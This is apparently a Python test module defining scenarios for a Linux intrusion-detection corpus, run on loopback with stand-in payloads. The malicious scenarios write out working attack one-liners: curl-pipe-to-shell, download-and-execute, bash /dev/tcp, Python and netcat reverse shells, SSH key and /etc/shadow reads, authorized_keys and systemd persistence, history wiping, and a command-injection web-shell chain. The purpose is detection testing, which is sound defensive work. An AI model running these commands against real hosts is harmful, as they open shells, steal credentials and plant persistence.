"""The scenarios of the labelled corpus (testbed/corpus/record.py runs them).

Each scenario is a bash script, `run.sh`, that record.py writes into the
scenario's own work directory (/tmp/hf-corpus-XXXX/<name>/, with the
scenario's `files`) and runs as `/bin/bash run.sh` under a fresh runner
process: a `/bin/sh` that first writes its audit loginuid (the kernel then
gives it a new audit session, as a login would — so every scenario is its
own lineage for the rules, and no sequence or count runs across two
scenarios) and then execs bash. Every event of a scenario is from the
runner or has it in its ancestry.

The scripts see these variables (exported by record.py):

    W      the scenario's work directory (under /tmp); HOME is $W/home
    PORT   a python http.server on 127.0.0.1 serving $SRV (payload.sh, data.tar.gz)
    LPORT  a listener on 127.0.0.1 that plays the attacker's end of a
           reverse shell: sends `id`, `echo hf-corpus-done`, `exit`, reads
           what comes back, closes
    XPORT, XPORT2  free loopback ports for the scenario's own listeners
    SCANBASE   the first of 64 consecutive closed loopback ports
    PY     /usr/bin/python3 (the system interpreter, not a shim)
    ACT    testbed/corpus/actions.py (memfd/deleted execs, ptrace, connect sweep, netcat stand-in)

Everything is harmless: loopback only, files only under $W (and one file
in /dev/shm, removed), setuid bits only on a copy of a tiny program under a
temporary directory, removed; every script cleans up in a trap.

`expect`: rule ids that must fire on the scenario's events (checked by
record.py on every recording and by `record.py --check`); `allow`: other
rule ids that may fire without being false alerts. Both were decided by
replaying the recorded corpus through rules/linux (record.py prints the
table), not guessed.
"""

HEADER = """set -u
cd "$W"
cleanup() { :; }
trap 'cleanup' EXIT
"""

PAYLOAD = "#!/bin/sh\n# hostflow corpus: a harmless stand-in for a dropped payload\necho hf-corpus-payload\n"

FAKE_KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
            "aGYtY29ycHVzIGNhbmFyeTogbm90IGEga2V5LCBuZXZlciB1c2VkIGZvciBhbnl0aGluZw==\n"
            "-----END OPENSSH PRIVATE KEY-----\n")

SUID_DEMO_C = r"""
/* hostflow corpus: a setuid demo that only drops and regains its own euid. */
#include <stdio.h>
#include <unistd.h>
int main(void) {
    uid_t real = getuid();
    if (seteuid(real) != 0) return 1;   /* drop root */
    if (seteuid(0) != 0) return 2;      /* regain it: what an exploited setuid program does */
    printf("hf-suid-demo uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
    return 0;
}
"""

HELLO_C = '#include <stdio.h>\nint main(void) { puts("hello from the corpus"); return 0; }\n'

MAKEFILE = """CC ?= cc
all: calc
calc: calc.c
\t$(CC) -O2 -Wall -o calc calc.c
test: calc
\t./run_tests.sh
clean:
\trm -f calc *.o results.txt
.PHONY: all test clean
"""

CALC_C = r"""#include <stdio.h>
#include <stdlib.h>
int main(int argc, char **argv) {
    long sum = 0;
    for (int i = 1; i < argc; i++) sum += strtol(argv[i], NULL, 10);
    printf("%ld\n", sum);
    return 0;
}
"""

RUN_TESTS = """#!/bin/sh
set -e
for case in "1 2:3" "10 20 30:60" "5:5"; do
  args=${case%%:*}; want=${case##*:}
  got=$(./calc $args)
  [ "$got" = "$want" ] || { echo "FAIL $args: $got != $want"; exit 1; }
  echo "ok $args" >> results.txt
done
grep -c ok results.txt
"""

B64_CMD = "ZWNobyBoZi1jb3JwdXMtYjY0"  # base64 of "echo hf-corpus-b64"
B64_PY = "cHJpbnQoImhmLWNvcnB1cyIp"   # base64 of 'print("hf-corpus")'

# A loopback web app with a command injection: it accepts one request and
# runs its body with sh -c (what a web shell or an injected parameter does).
WEB_APP = r"""import os, socket, subprocess
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", int(os.environ["XPORT"])))
server.listen(1)
server.settimeout(15)
conn, _ = server.accept()
conn.settimeout(5)
data = b""
while b"\r\n\r\n" not in data:
    data += conn.recv(4096)
head, body = data.split(b"\r\n\r\n", 1)
length = 0
for line in head.split(b"\r\n"):
    if line.lower().startswith(b"content-length:"):
        length = int(line.split(b":", 1)[1])
while len(body) < length:
    body += conn.recv(4096)
out = subprocess.run(["/bin/sh", "-c", body.decode()], capture_output=True).stdout
conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n" + out)
conn.close()
server.close()
"""

# What the attacker POSTs to it (sh -c expands $W, $PORT, $HOME from the app's environment).
INJECTED = ('curl -s -o "$W/.implant" "http://127.0.0.1:$PORT/implant.sh"; chmod +x "$W/.implant"; "$W/.implant"; '
            'cat "$HOME/.ssh/id_rsa" > /dev/null; '
            'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGhmY29ycHVz hf-corpus" >> "$HOME/.ssh/authorized_keys"; '
            'rm -f "$W/.implant"\n')

IMPLANT = "#!/bin/sh\n# hostflow corpus: a harmless implant stand-in that calls home on loopback\ncurl -s -o /dev/null \"http://127.0.0.1:$PORT/payload.sh\"\necho hf-corpus-implant\n"

SCENARIOS = [
    # ---------------------------------------------------------------- malicious
    dict(
        name="download_then_exec",
        description="curl downloads a script from a loopback http.server into /tmp, chmod +x, runs it",
        malicious=True,
        expect=["hf-linux-download-then-exec"],
        script="""
curl -s -o "$W/payload.sh" "http://127.0.0.1:$PORT/payload.sh"
chmod +x "$W/payload.sh"
"$W/payload.sh"
rm -f "$W/payload.sh"
""",
    ),
    dict(
        name="download_then_exec_wget",
        description="wget downloads a dropper into /tmp under another name, runs it",
        malicious=True,
        expect=["hf-linux-download-then-exec"],
        script="""
wget -q -O "$W/.cache-update" "http://127.0.0.1:$PORT/payload.sh"
chmod 755 "$W/.cache-update"
"$W/.cache-update"
rm -f "$W/.cache-update"
""",
    ),
    dict(
        name="curl_pipe_shell",
        description="sh -c 'curl … | sh': a downloaded script piped into a shell",
        malicious=True,
        expect=["hf-linux-download-pipe-shell"],
        script="""
sh -c "curl -s http://127.0.0.1:$PORT/payload.sh | sh"
""",
    ),
    dict(
        name="pipe_to_shell_script",
        description="a script file holding `curl … | sh` and `… | base64 -d | bash` (sibling processes)",
        malicious=True,
        expect=["hf-linux-pipe-to-shell-siblings"],
        files={"install.sh": f"""#!/bin/bash
curl -s http://127.0.0.1:$PORT/payload.sh | sh
echo {B64_CMD} | base64 -d | bash
"""},
        script="""
bash "$W/install.sh"
""",
    ),
    dict(
        name="base64_pipe_shell",
        description="a base64-decoded command piped into sh, and a python exec of a b64decode",
        malicious=True,
        expect=["hf-linux-base64-pipe-shell"],
        script=f"""
sh -c "echo {B64_CMD} | base64 -d | sh"
"$PY" -c "import base64;exec(base64.b64decode('{B64_PY}'))"
""",
    ),
    dict(
        name="reverse_shell_devtcp",
        description="bash -i redirected to /dev/tcp on a loopback listener that sends `id; exit`",
        malicious=True,
        expect=["hf-linux-reverse-shell-cmdline", "hf-linux-reverse-shell-stdio"],
        script="""
timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$LPORT 0>&1" 2>/dev/null
""",
    ),
    dict(
        name="reverse_shell_python",
        description="python one-liner dup2-ing a loopback socket onto sh -i",
        malicious=True,
        expect=["hf-linux-reverse-shell-cmdline", "hf-linux-reverse-shell-stdio"],
        script="""
timeout 10 "$PY" -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("127.0.0.1",'"$LPORT"'));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
""",
    ),
    dict(
        name="reverse_shell_netcat",
        description="netcat stand-in (a python script named nc) with -e /bin/sh, and the mkfifo | sh | nc pattern",
        malicious=True,
        expect=["hf-linux-reverse-shell-cmdline", "hf-linux-reverse-shell-stdio"],
        script="""
mkdir -p "$W/bin" && cp "$ACT" "$W/bin/nc" && chmod 755 "$W/bin/nc"
timeout 10 "$W/bin/nc" -e /bin/sh 127.0.0.1 "$LPORT"
timeout 10 bash -c "rm -f $W/f; mkfifo $W/f; cat $W/f | /bin/sh -i 2>&1 | $W/bin/nc 127.0.0.1 $LPORT > $W/f"
rm -f "$W/f"
""",
    ),
    dict(
        name="ssh_key_theft",
        description="a canary private key (fake) read with cat, and searched for with find and grep",
        malicious=True,
        expect=["hf-linux-ssh-private-key-read", "hf-linux-credential-search"],
        files={"home/.ssh/id_rsa": FAKE_KEY},
        script="""
cat "$HOME/.ssh/id_rsa" > /dev/null
find "$W" -name id_rsa -type f
grep -rl "PRIVATE KEY" "$HOME" > /dev/null
""",
    ),
    dict(
        name="shadow_read",
        description="/etc/shadow and /etc/gshadow read by cat and head (output discarded)",
        malicious=True,
        expect=["hf-linux-shadow-read"],
        script="""
cat /etc/shadow > /dev/null
head -c 0 /etc/gshadow
""",
    ),
    dict(
        name="user_persistence",
        description="a systemd user unit, an autostart entry, a .bashrc line and an authorized_keys entry written in a temp HOME",
        malicious=True,
        expect=["hf-linux-systemd-unit-write", "hf-linux-shell-rc-write", "hf-linux-authorized-keys-write"],
        script="""
mkdir -p "$HOME/.config/systemd/user" "$HOME/.config/autostart" "$HOME/.ssh"
printf '[Unit]\\nDescription=hf corpus\\n[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=default.target\\n' > "$HOME/.config/systemd/user/hf-corpus.service"
printf '[Desktop Entry]\\nType=Application\\nExec=/bin/true\\n' > "$HOME/.config/autostart/hf-corpus.desktop"
echo '/bin/true # hf-corpus' >> "$HOME/.bashrc"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGhmY29ycHVzaGZjb3JwdXNoZmNvcnB1c2hmY29ycHVz hf-corpus' >> "$HOME/.ssh/authorized_keys"
""",
    ),
    dict(
        name="history_tampering",
        description="a history file removed, HISTFILE=/dev/null, `unset HISTFILE; history -c`",
        malicious=True,
        expect=["hf-linux-history-tampering"],
        files={"home/.bash_history": "ls\ncd /tmp\n"},
        script="""
rm -f "$HOME/.bash_history"
HISTFILE=/dev/null bash -c true
bash -c 'unset HISTFILE; history -c'
""",
    ),
    dict(
        name="exec_from_dev_shm",
        description="a copy of /bin/true staged in /dev/shm and run (removed after)",
        malicious=True,
        expect=["hf-linux-exec-from-dev-shm"],
        script="""
F=/dev/shm/hf-corpus-$$
cleanup() { rm -f "$F"; }
cp /bin/true "$F" && "$F"
""",
    ),
    dict(
        name="masquerade",
        description="sleep copied to $W/.x/sshd and run; a process with argv[0] [kworker/0:1H]",
        malicious=True,
        expect=["hf-linux-masquerade-daemon-path", "hf-linux-masquerade-kernel-thread"],
        script="""
mkdir -p "$W/.x" && cp /bin/sleep "$W/.x/sshd"
"$W/.x/sshd" 0.1
(exec -a "[kworker/0:1H]" /bin/sleep 0.1)
""",
    ),
    dict(
        name="fileless_exec",
        description="/bin/true executed from a memfd, and from a deleted copy (fexecve)",
        malicious=True,
        expect=["hf-linux-exec-memfd", "hf-linux-exec-deleted-binary"],
        script="""
"$PY" "$ACT" memfd
"$PY" "$ACT" deleted "$W"
""",
    ),
    dict(
        name="env_injection",
        description="LD_PRELOAD of a library under /tmp; malformed GLIBC_TUNABLES; GLIBC_TUNABLES to setuid mount --version",
        malicious=True,
        expect=["hf-linux-ld-preload-writable-path", "hf-linux-glibc-tunables-malformed",
                "hf-linux-glibc-tunables-setuid"],
        allow=["hf-linux-ld-preload-set"],
        script="""
LD_PRELOAD="$W/libhf.so" /bin/true 2>/dev/null
GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=1 /bin/true
GLIBC_TUNABLES=glibc.malloc.check=0 /usr/bin/mount --version > /dev/null
""",
    ),
    dict(
        name="setuid_privesc",
        description="a tiny C program made setuid-root under a temp dir, run as nobody (drops and regains euid 0); a setgid dir",
        malicious=True,
        expect=["hf-linux-setuid-bit-set", "hf-linux-non-sudo-root-exec", "hf-linux-credential-change-to-root"],
        allow=["hf-linux-setgid-bit-set"],
        files={"hfdemo.c": SUID_DEMO_C},
        script="""
D=$(mktemp -d /tmp/hf-corpus-suid.XXXXXX)
cleanup() { rm -rf "$D"; }
chmod 711 "$D"
cc -O2 -o "$D/hfdemo" "$W/hfdemo.c"
chmod 4755 "$D/hfdemo"
setpriv --reuid=65534 --regid=65534 --clear-groups "$D/hfdemo"
mkdir "$D/shared" && chmod 2775 "$D/shared"
""",
    ),
    dict(
        name="ptrace_attach",
        description="python attaches to its own sleep child with PTRACE_ATTACH, then detaches",
        malicious=True,
        expect=["hf-linux-ptrace-attach"],
        script="""
"$PY" "$ACT" ptrace
""",
    ),
    dict(
        name="namespace_tricks",
        description="unshare -n, and nsenter into the network namespace of a sleep",
        malicious=True,
        expect=["hf-linux-unshare-namespace-unexpected", "hf-linux-setns-unexpected"],
        script="""
unshare -n /bin/true
sleep 3 & S=$!
cleanup() { kill $S 2>/dev/null; }
nsenter -t "$S" -n /bin/true
""",
    ),
    dict(
        name="port_scan",
        description="connects to 64 consecutive closed loopback ports within a second",
        malicious=True,
        expect=["hf-linux-port-scan"],
        script="""
"$PY" "$ACT" portscan 127.0.0.1 "$SCANBASE" 64
""",
    ),
    dict(
        name="discovery_burst",
        description="whoami, id, uname, hostname, ip, ss, ps, w, cat /etc/passwd, lscpu in a row",
        malicious=True,
        expect=["hf-linux-discovery-burst"],
        script="""
for c in whoami id "uname -a" hostname "ip addr" "ss -tan" "ps aux" w "cat /etc/passwd" lscpu; do
  $c > /dev/null 2>&1
done
""",
    ),
    dict(
        name="collect_stage_wipe",
        description="tar of /etc files into /tmp, split into parts, the archive shredded",
        malicious=True,
        expect=["hf-linux-collection-archive-staging", "hf-linux-secure-delete"],
        script="""
tar czf "$W/stage.tgz" /etc/hostname /etc/os-release 2>/dev/null
split -b 200 "$W/stage.tgz" "$W/part."
shred -u "$W/stage.tgz"
rm -f "$W"/part.*
""",
    ),
    dict(
        name="miner_sim",
        description="/bin/true copied to $W/xmrig, run with stratum+tcp and --donate-level arguments; a connect to 127.0.0.1:3333",
        malicious=True,
        expect=["hf-linux-miner-cmdline"],
        script="""
cp /bin/true "$W/xmrig"
"$W/xmrig" --donate-level 1 -o stratum+tcp://127.0.0.1:3333 -a rx/0
"$PY" "$ACT" connect 127.0.0.1 3333
""",
    ),
    dict(
        name="webshell_sim",
        description="python linked as $W/www/nginx and $W/www/node, each spawning sh -c 'id; uname'",
        malicious=True,
        expect=["hf-linux-webserver-spawns-shell", "hf-linux-app-runtime-spawns-shell"],
        script="""
mkdir -p "$W/www"
ln -s "$PY" "$W/www/nginx"
ln -s "$PY" "$W/www/node"
"$W/www/nginx" -c "import subprocess; subprocess.run(['/bin/sh', '-c', 'id; uname -r'])"
"$W/www/node" -c "import subprocess; subprocess.run(['/bin/sh', '-c', 'id'])"
""",
    ),
    dict(
        name="exfil_listener",
        description="python -m http.server and the netcat stand-in (from $W) listening on loopback, each fetched once",
        malicious=True,
        expect=["hf-linux-adhoc-listener", "hf-linux-unexpected-listener"],
        script="""
mkdir -p "$W/bin" "$W/pub" && cp "$ACT" "$W/bin/nc" && chmod 755 "$W/bin/nc"
echo loot > "$W/pub/loot.txt"
"$PY" -m http.server "$XPORT" --bind 127.0.0.1 --directory "$W/pub" > /dev/null 2>&1 & H=$!
"$W/bin/nc" -l 127.0.0.1 "$XPORT2" > /dev/null & N=$!
cleanup() { kill $H $N 2>/dev/null; }
for i in 1 2 3 4 5 6 7 8 9 10; do curl -s -o /dev/null "http://127.0.0.1:$XPORT/loot.txt" && break; sleep 0.2; done
sleep 0.3
echo data | timeout 5 "$PY" "$ACT" nc 127.0.0.1 "$XPORT2"
wait $N
""",
    ),
    dict(
        name="sensitive_symlink",
        description="symlinks under $W pointing at /etc/shadow and /etc/sudoers (removed)",
        malicious=True,
        expect=["hf-linux-sensitive-file-link"],
        script="""
ln -s /etc/shadow "$W/shadow.lnk"
ln -s /etc/sudoers "$W/sudoers.lnk"
rm -f "$W/shadow.lnk" "$W/sudoers.lnk"
""",
    ),
    dict(
        name="webshell_kill_chain",
        description="a vulnerable loopback web app runs a POSTed command with sh -c: download to /tmp, run it "
                    "(it connects out), read the canary key, add an authorized_keys entry",
        malicious=True,
        expect=["hf-linux-chain-service-dropper", "hf-linux-chain-service-credential-access",
                "hf-linux-chain-service-persistence", "hf-linux-download-then-exec",
                "hf-linux-ssh-private-key-read", "hf-linux-authorized-keys-write"],
        files={"app.py": WEB_APP, "home/.ssh/id_rsa": FAKE_KEY, "inject.txt": INJECTED},
        script="""
"$PY" "$W/app.py" > /dev/null 2>&1 & A=$!
cleanup() { kill $A 2>/dev/null; }
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
  curl -s -o /dev/null --data-binary @"$W/inject.txt" "http://127.0.0.1:$XPORT/run" && break
  sleep 0.2
done
wait $A
""",
    ),
    # ---------------------------------------------------------------- benign
    dict(
        name="service_hook_benign",
        description="the same kind of loopback web app (a deploy hook) runs a harmless command with sh -c: "
                    "date, ls, git --version",
        malicious=False,
        files={"app.py": WEB_APP, "inject.txt": "date; ls \"$W\"; git --version\n"},
        script="""
"$PY" "$W/app.py" > /dev/null 2>&1 & A=$!
cleanup() { kill $A 2>/dev/null; }
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
  curl -s -o /dev/null --data-binary @"$W/inject.txt" "http://127.0.0.1:$XPORT/hook" && break
  sleep 0.2
done
wait $A
""",
    ),
    dict(
        name="pkg_query",
        description="dpkg -l, dpkg -S, apt-cache policy and show (read-only package queries)",
        malicious=False,
        script="""
dpkg -l > /dev/null
dpkg -S /bin/ls > /dev/null
apt-cache policy bash > /dev/null
apt-cache show coreutils > /dev/null 2>&1
""",
    ),
    dict(
        name="compile_run",
        description="cc builds hello.c into $W and the binary runs from there",
        malicious=False,
        files={"hello.c": HELLO_C},
        script="""
cc -O2 -o "$W/hello" "$W/hello.c"
"$W/hello"
""",
    ),
    dict(
        name="ci_job",
        description="make builds a C program in $W, runs its shell test script, cleans",
        malicious=False,
        files={"proj/Makefile": MAKEFILE, "proj/calc.c": CALC_C, "proj/run_tests.sh": RUN_TESTS},
        script="""
chmod +x "$W/proj/run_tests.sh"
make -s -C "$W/proj" all
make -s -C "$W/proj" test
make -s -C "$W/proj" clean
""",
    ),
    dict(
        name="admin_tools",
        description="ps, ss, systemctl status, df, free, uptime (fewer than the discovery threshold)",
        malicious=False,
        script="""
ps aux > /dev/null
ss -tlnp > /dev/null
systemctl status --no-pager > /dev/null 2>&1
df -h > /dev/null
free -m > /dev/null
uptime > /dev/null
""",
    ),
    dict(
        name="backup",
        description="tar czf of a data directory under $W, listed and checksummed",
        malicious=False,
        files={"data/notes.txt": "backup me\n", "data/conf/app.ini": "[app]\nkey=value\n"},
        script="""
tar czf "$W/backup.tgz" -C "$W" data
tar tzf "$W/backup.tgz" > /dev/null
sha256sum "$W/backup.tgz" > "$W/backup.tgz.sha256"
rm -f "$W/backup.tgz" "$W/backup.tgz.sha256"
""",
    ),
    dict(
        name="git_workflow",
        description="git init, add, commit, log, status, diff in $W",
        malicious=False,
        script="""
git init -q "$W/repo" && cd "$W/repo"
echo "hello" > README
git add README
git -c user.name=hf -c user.email=hf@example.invalid commit -q -m init
echo "more" >> README
git diff > /dev/null
git status --short > /dev/null
git log --oneline > /dev/null
""",
    ),
    dict(
        name="ssh_tools",
        description="ssh -V; ssh-keygen makes, fingerprints and reads a key in the temp HOME",
        malicious=False,
        script="""
mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
ssh -V 2>/dev/null
ssh-keygen -q -t ed25519 -N '' -C hf-corpus -f "$HOME/.ssh/id_ed25519"
ssh-keygen -l -f "$HOME/.ssh/id_ed25519" > /dev/null
ssh-keygen -y -f "$HOME/.ssh/id_ed25519" > /dev/null
""",
    ),
    dict(
        name="download_no_exec",
        description="curl and wget download an archive into /tmp; it is extracted and read, nothing from /tmp runs",
        malicious=False,
        script="""
curl -s -o "$W/data.tar.gz" "http://127.0.0.1:$PORT/data.tar.gz"
tar xzf "$W/data.tar.gz" -C "$W"
cat "$W/data/README" > /dev/null
wget -q -O - "http://127.0.0.1:$PORT/payload.sh" | sha256sum > /dev/null
""",
    ),
    dict(
        name="read_history",
        description="a user looks at their own shell history (read only) and appends to it from a shell",
        malicious=False,
        files={"home/.bash_history": "ls\nmake\n"},
        script="""
tail -n 5 "$HOME/.bash_history" > /dev/null
echo "git status" >> "$HOME/.bash_history"
""",
    ),
    dict(
        name="churn",
        description="2000 short processes, each opening a file under $W: 1000 exec touch, 1000 are forked "
                    "subshells that only redirect (churn; enrich and L2 table pressure)",
        malicious=False,
        script="""
mkdir -p "$W/c"
i=0
while [ $i -lt 1000 ]; do
  /usr/bin/touch "$W/c/f$((i % 50))"
  ( : > "$W/c/g$((i % 50))" )
  i=$((i + 1))
done
rm -rf "$W/c"
""",
    ),
]
